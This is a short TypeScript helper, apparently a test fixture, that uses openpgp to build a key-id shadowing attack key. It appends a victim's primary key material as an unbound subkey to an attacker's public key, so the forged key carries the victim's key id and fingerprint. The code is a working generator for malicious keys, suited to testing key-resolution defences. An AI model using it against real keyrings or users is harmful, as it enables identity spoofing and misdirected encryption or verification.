import * as openpgp from 'openpgp';

/**
 * `attacker`'s public key with `victim`'s primary key material appended as a subkey: the key-id
 * shadowing attack. Nobody but the victim can bind that material properly, so the copy carries no
 * binding signature; what matters is that its key id (and fingerprint) is the victim's.
 */
export async function withShadowSubkey(attackerArmored: string, victimArmored: string): Promise<string> {
  const attacker = await openpgp.readKey({ armoredKey: attackerArmored });
  const victim = await openpgp.readKey({ armoredKey: victimArmored });
  const copy = new openpgp.PublicSubkeyPacket();
  copy.read(victim.keyPacket.write());
  const packets = attacker.toPacketList();
  packets.push(copy);
  return new openpgp.PublicKey(packets).armor();
}
